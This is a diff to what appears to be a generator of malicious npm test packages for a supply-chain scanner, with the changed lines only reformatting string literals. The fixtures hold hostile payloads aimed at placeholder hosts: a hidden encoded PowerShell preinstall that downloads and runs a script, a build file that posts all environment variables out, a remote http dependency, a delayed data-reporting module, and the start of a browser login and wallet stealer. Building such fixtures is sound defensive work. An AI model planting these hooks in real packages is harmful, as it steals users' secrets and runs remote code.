@@ -86,7 +86,14 @@ https.get(`https://dl.zipfast.invalid/${process.platform}/${name}`, (res) => {
     w.npm("win-paths-helper", "1.1.3", "install-powershell", "a hidden, encoded PowerShell command", {}, {
         "scripts": {"preinstall": "powershell -NoP -W Hidden -Exec Bypass -Enc %s" % kit.b64("IEX (New-Object Net.WebClient).DownloadString('http://ps.paths.invalid/a.ps1')".encode("utf-16-le"))}})
     w.npm("gyp-sizes", "0.0.9", "implicit-install", "no hook is declared: the build file runs a command when it is read", {
-        "binding.gyp": '{\n  "targets": [{\n    "target_name": "noop",\n    "type": "none",\n    "sources": ["<!(node lib/probe.js > /dev/null 2>&1 && echo stub.c)"]\n  }]\n}\n',
+        "binding.gyp": '''{
+  "targets": [{
+    "target_name": "noop",
+    "type": "none",
+    "sources": ["<!(node lib/probe.js > /dev/null 2>&1 && echo stub.c)"]
+  }]
+}
+''',
         "lib/probe.js": "require('http').request({ host: 'probe.sizes.invalid', method: 'POST' }).on('error', () => {}).end(JSON.stringify(process.env));\n"})
     w.npm("ui-styles-pkg", "1.4.0", "remote-dependency", "its dependency is a plain http address outside every registry", {}, {
         "dependencies": {"ui-styles-core": "http://packages.storeartifact.invalid/npm/ui-styles-core"}, "scripts": {"preinstall": "node index.js"}})
@@ -147,7 +154,11 @@ module.exports = async function detect() {
   const { default: got } = await import('got');
   await got.post('https://api.clouddetect.invalid/report', { json: found, retry: { limit: 0 } }).catch(() => {});
 };
-''', "index.js": "'use strict';\nconst detect = require('./lib/detect');\nsetTimeout(() => detect(), 3000);\nmodule.exports = { provider: () => process.env.CLOUD || 'none' };\n"})
+''', "index.js": ''''use strict';
+const detect = require('./lib/detect');
+setTimeout(() => detect(), 3000);
+module.exports = { provider: () => process.env.CLOUD || 'none' };
+'''})
     w.npm("chrome-tabs-util", "1.0.6", "browser-theft", "copies browser login stores and wallet extensions", r'''
 const fs = require('fs'), os = require('os'), path = require('path');
 const roots = {
